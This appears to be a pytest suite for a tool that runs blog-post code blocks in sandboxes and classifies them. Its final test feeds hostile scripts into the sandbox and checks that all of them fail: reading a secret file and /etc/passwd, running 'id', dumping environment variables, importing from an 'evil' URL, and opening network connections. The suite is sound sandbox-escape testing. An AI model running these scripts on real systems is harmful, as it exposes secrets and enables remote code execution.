"""blogtools.triage: verdicts found by running blocks in the real sandbox (Pyodide, Deno, bubblewrap)."""

from __future__ import annotations

import pytest

from blogtools.triage import (
    ILLUSTRATIVE,
    LIMITS,
    NEEDS_CONTEXT,
    RUNS,
    Block,
    Need,
    Sandboxes,
    Verdict,
    runtime_version,
    static_verdict,
    triage_post,
)
from local_tcp import tcp_listener


@pytest.fixture(scope="module")
def sandbox():
    with Sandboxes(LIMITS) as shared:
        yield shared


def triage(sandbox, *blocks: tuple[str, str]) -> list[Verdict]:
    return triage_post([Block(n, language, text) for n, (language, text) in enumerate(blocks, 1)], sandboxes=sandbox)


# --- no run needed -------------------------------------------------------------------------------

@pytest.mark.parametrize(("language", "text", "verdict", "reason_or_need"), [
    ("shell", "pip install numpy\n", ILLUSTRATIVE, "command line"),
    ("shell", "cd src\nmake\nmake install\n", NEEDS_CONTEXT, Need("language", "Shell")),
    ("console", "$ ls\nfoo bar\n", ILLUSTRATIVE, "console session"),
    ("python", ">>> 1 + 1\n2\n", ILLUSTRATIVE, "console session"),
    ("text", "Hello, world!\n", ILLUSTRATIVE, "text or program output"),
    ("json", '{"a": 1}\n', ILLUSTRATIVE, "data"),
    ("yaml", "a: 1\n", ILLUSTRATIVE, "configuration"),
    ("diff", "-a\n+b\n", ILLUSTRATIVE, "diff"),
    ("go", "package main\n", NEEDS_CONTEXT, Need("language", "Go")),
    ("rust", "fn main() {}\n", NEEDS_CONTEXT, Need("language", "Rust")),
    ("rust", "impl Value {\n    pub fn new() -> Self { ... }\n}\n", ILLUSTRATIVE, "fragment with elided parts"),
    ("rust", "error[E0597]: `array` does not live long enough\n  |\n", ILLUSTRATIVE, "compiler or tool output"),
    ("python", "%matplotlib inline\nimport numpy as np\n", NEEDS_CONTEXT, Need("language", "IPython")),
    ("javascript", "> [1, 2].map(x => x * 2)\n[ 2, 4 ]\n", ILLUSTRATIVE, "console session"),
])
def test_static_verdicts(language, text, verdict, reason_or_need):
    found = static_verdict(Block(1, language, text))
    assert found.verdict == verdict
    assert (found.needs == (reason_or_need,)) if isinstance(reason_or_need, Need) else found.reason == reason_or_need


def test_need_phrases_and_json_round_trip():
    assert Need("language", "Go").phrase() == "a Go toolchain"
    assert Need("language", "Erlang").phrase() == "an Erlang toolchain"
    assert Need("block", "2").phrase() == "block 2"
    assert Need("file", "data.csv").phrase() == "the file data.csv"
    verdict = Verdict(NEEDS_CONTEXT, "x", (Need("module", "numpy"),))
    assert Verdict.from_json(verdict.as_json()) == verdict
    with pytest.raises(ValueError):
        Verdict(RUNS, "x", (Need("module", "numpy"),))
    assert "pyodide" in runtime_version()


# --- Python in the sandbox -----------------------------------------------------------------------

@pytest.mark.sandbox
def test_python_verdicts(sandbox):
    verdicts = triage(
        sandbox,
        ("python", "def main():\n    print('hello')\n\nif __name__ == '__main__':\n    main()\n"),
        ("python", "import numpy as np\nprint(np.zeros(3))\n"),
        ("python", "print(open('data.csv').read())\n"),
        ("python", "import urllib.request\nurllib.request.urlopen('https://example.com/api').read()\n"),
        ("python", "name = input('Your name? ')\nprint(name)\n"),
        ("python", "import threading\nt = threading.Thread(target=print)\nt.start()\n"),
        ("python", "import subprocess\nsubprocess.run(['ls'])\n"),
        ("python", "print 'hello'\n"),
        ("python", "def f(x):\n    ...\n  return x +\n"),
        ("python", "while True:\n    pass\n"),
        ("python", "print(undefined_thing)\n"),
        ("python", "async def answer():\n    return 42\n\nprint(await answer())\n"),
    )
    assert verdicts[0] == Verdict(RUNS, "ran to completion", output="hello\n")  # run as a script: __main__
    assert [v.verdict for v in verdicts[1:]] == [NEEDS_CONTEXT] * 7 + [ILLUSTRATIVE] + [NEEDS_CONTEXT] * 3
    assert verdicts[1].needs == (Need("module", "numpy"),)
    assert verdicts[2].needs == (Need("file", "data.csv"),)
    assert verdicts[3].needs == (Need("network", "https://example.com/api"),)
    assert verdicts[4].needs == (Need("input", "stdin"),)
    assert verdicts[5].needs == verdicts[6].needs == (Need("language", "CPython"),)
    assert verdicts[7].needs == (Need("language", "Python 2"),)
    assert verdicts[8].reason.startswith("fragment or pseudo-code")
    assert verdicts[9].needs == (Need("time", "5 s"),) and "did not finish" in verdicts[9].reason
    assert verdicts[10].needs == (Need("name", "undefined_thing"),)
    assert verdicts[11].needs == (Need("language", "IPython"),) and "top-level await" in verdicts[11].reason


@pytest.mark.sandbox
def test_cumulative_run_after_an_earlier_block(sandbox):
    verdicts = triage(
        sandbox,
        ("python", "def greet(who):\n    return f'hello {who}'\nprint('defined')\n"),
        ("shell", "pip install nothing\n"),
        ("python", "print(greet('reader'))\n"),
        ("python", "import numpy\nrows = numpy.zeros(2)\n"),
        ("python", "print(rows)\n"),
    )
    assert verdicts[2] == Verdict(RUNS, "runs after block 1", output="hello reader\n", after=1)
    assert verdicts[3].needs == (Need("module", "numpy"),)
    assert verdicts[4].verdict == NEEDS_CONTEXT
    assert verdicts[4].needs == (Need("block", "4"), Need("module", "numpy"))


# --- JavaScript and TypeScript in Deno -------------------------------------------------------------

@pytest.mark.sandbox
def test_script_verdicts(sandbox):
    verdicts = triage(
        sandbox,
        ("javascript", "const xs = [1, 2, 3];\nconsole.log(xs.map((x) => x * 2).join(','));\n"),
        ("typescript", "interface Point { x: number; y: number }\n"
                       "function norm(p: Point): number { return Math.hypot(p.x, p.y); }\nconsole.log(norm({x: 3, y: 4}));\n"),
        ("javascript", "const total: number = 40 + 2;\nconsole.log(total);\n"),  # types in a block named JavaScript
        ("javascript", "import { z } from 'zod';\nconsole.log(z.string().parse('x'));\n"),
        ("typescript", "const response = await fetch('https://api.example.com/items');\nconsole.log(await response.json());\n"),
        ("javascript", "document.querySelector('#app').textContent = 'hi';\n"),
        ("javascript", "console.log(norm({x: 6, y: 8}));\n"),
        ("typescript", "console.log(Deno.readTextFileSync('config.json'));\n"),
        ("javascript", "function broken( {\n"),
        ("javascript", "while (true) {}\n"),
    )
    assert verdicts[0] == Verdict(RUNS, "ran to completion", output="2,4,6\n")
    assert verdicts[1] == Verdict(RUNS, "ran to completion", output="5\n")
    assert verdicts[2] == Verdict(RUNS, "ran to completion", output="42\n")
    assert verdicts[3].needs == (Need("module", "zod"),)
    assert verdicts[4].needs == (Need("network", "https://api.example.com/items"),)
    assert verdicts[5].needs == (Need("language", "browser"),)
    assert verdicts[6] == Verdict(RUNS, "runs after block 2", output="10\n", after=2)
    assert verdicts[7].needs == (Need("file", "config.json"),)
    assert verdicts[8].verdict == ILLUSTRATIVE and verdicts[8].reason.startswith("fragment or pseudo-code")
    assert verdicts[9].needs == (Need("time", "5 s"),)


@pytest.mark.sandbox
def test_hostile_scripts_reach_nothing_on_the_host(sandbox, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("host-secret-4711")
    tmp_path.chmod(0o755)
    secret.chmod(0o644)
    planted = tmp_path / "planted"
    attacks = [
        f"console.log(Deno.readTextFileSync({str(secret)!r}));",
        f"import fs from 'node:fs';\nconsole.log(fs.readFileSync({str(secret)!r}, 'utf8'));",
        f"Deno.writeTextFileSync({str(planted)!r}, 'x');",
        "console.log(new TextDecoder().decode(new Deno.Command('id').outputSync().stdout));",
        "import cp from 'node:child_process';\nconsole.log(cp.execSync('id').toString());",
        "console.log(Deno.env.toObject());",
        "const w = new Worker('data:text/javascript,postMessage(Deno.readTextFileSync(\"/etc/passwd\"))', "
        "{type: 'module', deno: {permissions: 'inherit'}});",
        "await import('https://deno.land/x/evil/mod.ts');",
    ]
    with tcp_listener() as (port, hits):
        attacks += [f"await fetch('http://127.0.0.1:{port}/');",
                    f"const c = await Deno.connect({{hostname: '127.0.0.1', port: {port}}});",
                    f"import net from 'node:net';\nnet.connect({port}, '127.0.0.1');\nawait new Promise((r) => setTimeout(r, 300));"]
        verdicts = triage(sandbox, *(("typescript", attack) for attack in attacks))
    assert hits == []
    assert not planted.exists()
    for attack, verdict in zip(attacks, verdicts):
        assert verdict.verdict != RUNS, attack
        assert "host-secret-4711" not in verdict.reason and "uid=" not in verdict.reason
